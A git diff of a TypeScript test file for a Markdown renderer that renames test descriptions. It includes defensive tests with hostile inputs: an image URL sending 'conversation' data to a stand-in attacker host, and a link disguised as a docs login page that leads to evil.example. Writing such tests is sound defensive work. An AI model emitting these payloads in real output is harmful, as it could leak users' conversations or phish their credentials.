@@ -4,7 +4,7 @@ import { Markdown } from './markdown.tsx';
 
 const print = (text: string) => renderToStaticMarkup(<Markdown text={text} siteOrigin="https://docs.example.com" />);
 
-it('shows what pages are made of', () => {
+it('renders the Markdown of pages', () => {
 	expect(print('A **b** _c_ `d`\n\n1. one\n2. two')).toBe(
 		'<p>A <strong>b</strong> <em>c</em> <code>d</code></p><ol start="1"><li>one</li><li>two</li></ol>',
 	);
@@ -14,7 +14,7 @@ it('shows what pages are made of', () => {
 	expect(print('| a | b |\n| --- | --- |\n| `x` | y |')).toContain('<td><code>x</code></td><td>y</td>');
 });
 
-it('keeps links to the site inside, whatever address it is read at', () => {
+it('makes links to the site relative, whatever its current address is', () => {
 	expect(print('[a](https://docs.example.com/cms/b?x=1#c)')).toBe('<p><a href="/cms/b?x=1#c">a</a></p>');
 });
 
@@ -42,11 +42,11 @@ describe('hostile text', () => {
 		expect(print(text)).not.toContain('<a');
 	});
 
-	it('asks no other host for an image', () => {
+	it('does not load images', () => {
 		expect(print('![secret](https://evil.example/?q=conversation)')).toBe('<p>secret</p>');
 	});
 
-	it('shows where a link leads that looks like another', () => {
+	it('shows the target of a disguised link', () => {
 		const html = print('[https://docs.example.com/login](https://evil.example/login)');
 		expect(html).toContain('title="https://evil.example/login"');
 		expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
